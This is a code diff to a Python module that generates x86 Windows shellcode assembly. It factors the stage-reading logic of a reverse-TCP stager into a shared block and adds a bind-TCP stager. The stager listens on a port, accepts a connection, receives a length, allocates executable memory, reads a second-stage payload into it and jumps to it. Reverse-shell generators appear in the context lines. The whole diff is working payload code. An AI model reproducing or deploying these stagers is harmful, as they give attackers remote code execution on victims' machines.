@@ -158,18 +158,32 @@ def reverse_shell(host: str, port: int) -> str:
         "    push 16\n    push ebx\n    push edi\n" + _api("connect") + _SHELL + FIND_API)
 
 
+_READ_STAGE = (
+    "    push 0\n    push 4\n    lea esi, [esp-4]\n    push esi\n    push edi\n" +
+    _api("recv") + "    mov esi, [esi]\n    and esi, 0xfffff\n    or esi, 1\n"
+    "    push 0x40\n    push 0x1000\n    push esi\n    push 0\n" + _api("VirtualAlloc") +
+    "    mov ebx, eax\n    push 0\n    push esi\n    push ebx\n    push edi\n" +
+    _api("recv") + "    jmp ebx\n")
+
+
 def reverse_stager(host: str, port: int) -> str:
     """The reverse-TCP stager shape: connect(host:port), recv the stage's 4-byte length,
     VirtualAlloc that much, recv the stage into it and jump there."""
     return (
         "start:\n    cld\n    call next\nnext:\n    pop ebp\n" + _SOCKET +
         _sockaddr(port, host) +
-        "    push 16\n    push ebx\n    push edi\n" + _api("connect") +
-        "    push 0\n    push 4\n    lea esi, [esp-4]\n    push esi\n    push edi\n" +
-        _api("recv") + "    mov esi, [esi]\n    and esi, 0xfffff\n    or esi, 1\n"
-        "    push 0x40\n    push 0x1000\n    push esi\n    push 0\n" + _api("VirtualAlloc") +
-        "    mov ebx, eax\n    push 0\n    push esi\n    push ebx\n    push edi\n" +
-        _api("recv") + "    jmp ebx\n" + FIND_API)
+        "    push 16\n    push ebx\n    push edi\n" + _api("connect") + _READ_STAGE + FIND_API)
+
+
+def bind_stager(port: int) -> str:
+    """The bind-TCP stager shape: bind(port), listen, accept, then read a stage as
+    reverse_stager does, from the accepted socket."""
+    return (
+        "start:\n    cld\n    call next\nnext:\n    pop ebp\n" + _SOCKET + _sockaddr(port) +
+        "    push 16\n    push ebx\n    push edi\n" + _api("bind") +
+        "    push 1\n    push edi\n" + _api("listen") +
+        "    push 0\n    push 0\n    push edi\n" + _api("accept") + "    mov edi, eax\n" +
+        _READ_STAGE + FIND_API)
 
 
 def infinite_loop() -> str:
